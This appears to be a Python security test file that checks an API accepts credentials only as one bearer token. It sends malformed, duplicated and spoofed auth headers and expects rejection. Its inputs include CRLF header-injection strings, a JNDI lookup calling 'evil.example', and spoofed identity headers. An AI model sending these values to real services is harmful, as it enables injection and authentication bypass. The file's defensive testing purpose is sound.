"""Credentials in any form other than one bearer token in one Authorization header."""

from __future__ import annotations

from collections.abc import Callable
from functools import partial

from tests.conftest import API
from tests.hostile.cases import Case, check, table
from tests.hostile.target import Target, message

Headers = list[tuple[str, str]]


def header(*values: str) -> Callable[[str], Headers]:
    """Return Authorization headers, with a genuine token in place of each {}."""
    return lambda token: [("Authorization", value.replace("{}", token)) for value in values]


def field(name: str, value: str) -> Callable[[str], Headers]:
    """Return another header, with a genuine token in place of {}."""
    return lambda token: [(name, value.replace("{}", token))]


TWO, NONE = (400, "malformed_request"), (401, "authentication_required")
CREDENTIALS: list[tuple[str, Callable[[str], Headers], tuple[int, str]]] = [
    ("two headers, both good", header("Bearer {}", "Bearer {}"), TWO),
    ("two headers, good then bad", header("Bearer {}", "Bearer bad"), TWO),
    ("two headers, bad then good", header("Bearer bad", "Bearer {}"), TWO),
    ("two headers, Basic then Bearer", header("Basic YTpi", "Bearer {}"), TWO),
    ("two headers, empty then Bearer", header("", "Bearer {}"), TWO),
    ("two names of different case", lambda t: [("authorization", f"Bearer {t}"), ("AUTHORIZATION", "Bearer b")], TWO),
    ("scheme and spaces", header("Bearer     "), TWO),
    ("single quoted", header("Bearer '{}'"), TWO),
    ("UTF-8 look-alike scheme", header("Веarer {}".encode().decode("latin-1")), TWO),
    ("UTF-8 space before the token", header("Bearer \xe2\x80\x8b{}"), TWO),
    ("percent-encoded space", header("Bearer%20{}"), NONE),
    ("padding inside", header("Bearer a=b={}"), TWO),
    ("NUL in it", header("Bearer {}\x00"), TWO),
    ("DEL in it", header("Bearer {}\x7f"), TWO),
    ("escape in it", header("Bearer \x1b[31m{}"), TWO),
    ("newline in it", header("Bearer {}\nX-Evil: 1"), TWO),
    ("carriage return in it", header("Bearer {}\rX-Evil: 1"), TWO),
    ("folded line", header("Bearer\r\n {}"), TWO),
    ("form feed between", header("Bearer\x0c{}"), TWO),
    ("template", header("Bearer ${jndi:ldap://evil.example/a}"), TWO),
    ("scheme Basic with the token", header("Basic {}"), NONE),
    ("scheme Digest", header('Digest username="alice", realm="gatepost", nonce="", uri="/", response=""'), NONE),
    ("scheme NTLM", header("NTLM TlRMTVNTUAAB"), NONE),
    ("scheme DPoP", header("DPoP {}"), NONE),
    ("scheme MAC", header('MAC id="1", nonce="1", mac="1"'), NONE),
    ("scheme Bearer2", header("Bearer2 {}"), NONE),
    ("no header", header(), NONE),
    ("X-Forwarded-Authorization", field("X-Forwarded-Authorization", "Bearer {}"), NONE),
    ("X-Access-Token", field("X-Access-Token", "{}"), NONE),
    ("name with underscore", field("HTTP_AUTHORIZATION", "Bearer {}"), NONE),
    ("X-User-Id", field("X-User-Id", "3"), NONE),
    ("X-Remote-User", field("X-Remote-User", "carol@example.com"), NONE),
    ("Remote-User", field("Remote-User", "carol@example.com"), NONE),
    ("cookie session", field("Cookie", "session={}"), NONE),
    ("cookie Authorization", field("Cookie", "Authorization=Bearer {}"), NONE),
    ("From", field("From", "carol@example.com"), NONE),
]
ROUTES = {"GET": "/auth/me", "DELETE": "/users/1"}


def credentials_case(name: str, make: Callable[[str], Headers], expected: tuple[int, str], method: str) -> Case:
    """Return a case of credentials on a route that requires an access token."""

    def build(target: Target) -> bytes:
        return message(method, API + ROUTES[method], make(target.alice.access))

    return Case(f"{method}: {name}", *expected, build)


@table([credentials_case(*row, method) for method in ROUTES for row in CREDENTIALS])
def test_credentials_that_are_not_one_bearer_token(target: Target, case: Case) -> None:
    check(target, case)


def _in_query(name: str, target: Target) -> bytes:
    return message("GET", f"{API}/auth/me?{name}={target.alice.access}")


QUERIES = ("bearer_token", "Authorization", "auth", "api_key")


@table([Case(name, 401, "authentication_required", partial(_in_query, name)) for name in QUERIES])
def test_a_token_in_the_query_is_ignored(target: Target, case: Case) -> None:
    check(target, case)


def _in_body(media: str, body: str, target: Target) -> bytes:
    return message("POST", f"{API}/posts", {"Content-Type": media}, body.replace("{}", target.alice.access))


# RFC 6750 section 2.2 also defines tokens in form bodies; here bodies are JSON with known members.
BODIES = {
    "form": ("application/x-www-form-urlencoded", "access_token={}", 401, "authentication_required"),
    "JSON": ("application/json", '{"access_token": "{}"}', 401, "authentication_required"),
}


@table([Case(name, row[2], row[3], partial(_in_body, row[0], row[1])) for name, row in BODIES.items()])
def test_a_token_in_a_body_is_none(target: Target, case: Case) -> None:
    check(target, case)
